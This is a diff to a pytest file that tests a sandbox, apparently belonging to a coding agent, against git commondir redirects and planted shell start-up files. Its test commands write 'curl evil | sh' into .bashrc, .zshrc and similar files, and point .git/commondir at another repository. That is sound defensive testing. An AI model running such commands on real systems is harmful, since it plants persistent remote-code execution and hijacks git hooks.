@@ -17,6 +17,8 @@ from steward.safety.sandbox import BubblewrapSandbox, SandboxSettings
 from steward.tools.base import ToolContext
 from steward.tools.shell import bash
 
+from .conftest import RunBash
+
 pytestmark = pytest.mark.skipif(
     shutil.which("bwrap") is None, reason="needs bubblewrap: apt-get install bubblewrap"
 )
@@ -205,18 +207,18 @@ async def test_a_missing_included_config_cannot_be_created(
     assert not (workspace / ".gitconfig.shared").exists()
 
 
-async def test_a_commondir_redirect_is_removed_and_reported(
+async def test_a_commondir_redirect_cannot_be_written_while_the_command_runs(
     sandbox: BubblewrapSandbox, workspace: Path
 ) -> None:
-    # A commondir file would make git read hooks and config from another directory.
+    # A commondir file would make git read hooks and config from another directory. It is held by
+    # a read-only placeholder saying "." (git reads that as "here"), so there is no moment when
+    # git on the host could follow a redirect, and nothing is left afterwards.
     make_repo(workspace / ".git")
     make_repo(workspace / "evil")
-    result = await bash.call(
-        {"command": "echo ../evil > .git/commondir"}, ToolContext(workspace=workspace, sandbox=sandbox)
+    _, output = await sh(
+        sandbox, workspace, "cat .git/commondir; echo ../evil > .git/commondir || echo refused"
     )
-    assert result.is_error
-    assert ".git/commondir" in result.content
-    assert "removed" in result.content
+    assert output.startswith(".\n") and "refused" in output
     assert not (workspace / ".git" / "commondir").exists()
 
 
@@ -249,14 +251,12 @@ async def test_a_missing_state_directory_cannot_be_created_writable(
 
 
 @pytest.mark.parametrize("name", [".bashrc", ".profile", ".zshrc", ".envrc"])
-async def test_a_missing_start_up_file_cannot_be_created(
-    sandbox: BubblewrapSandbox, workspace: Path, name: str
+async def test_a_new_start_up_file_is_undone_after_the_command(
+    sandbox: BubblewrapSandbox, workspace: Path, name: str, checkpointed_bash: RunBash
 ) -> None:
-    status, _ = await sh(
-        sandbox, workspace, f"chmod u+w {name}; rm -f {name}; echo 'curl evil | sh' > {name}"
-    )
-    assert status != 0
-    assert not (workspace / name).exists()  # neither written nor left behind as a placeholder
+    result = await checkpointed_bash(sandbox, workspace, f"echo 'curl evil | sh' > {name}")
+    assert result.is_error and f"new {name} removed" in result.content
+    assert not (workspace / name).exists()
 
 
 async def test_an_existing_start_up_file_cannot_be_changed_or_removed(
@@ -272,16 +272,17 @@ async def test_an_existing_start_up_file_cannot_be_changed_or_removed(
 async def test_a_placeholder_stays_while_another_command_still_uses_it(
     sandbox: BubblewrapSandbox, workspace: Path
 ) -> None:
-    # The quick command finishes first; its placeholder for .bashrc must not vanish under the slow one.
+    # The quick command finishes first; its placeholder for steward.toml must not vanish under
+    # the slow one.
     slow = asyncio.create_task(
-        sh(sandbox, workspace, "sleep 0.5; chmod u+w .bashrc; rm -f .bashrc; echo evil > .bashrc")
+        sh(sandbox, workspace, "sleep 0.5; chmod u+w steward.toml; rm -f steward.toml; echo x > steward.toml")
     )
     await asyncio.sleep(0.15)
     quick_status, _ = await sh(sandbox, workspace, "true")
     slow_status, _ = await slow
     assert quick_status == 0
     assert slow_status != 0
-    assert not (workspace / ".bashrc").exists()
+    assert not (workspace / "steward.toml").exists()
 
 
 async def test_git_still_works_inside_a_protected_repository(
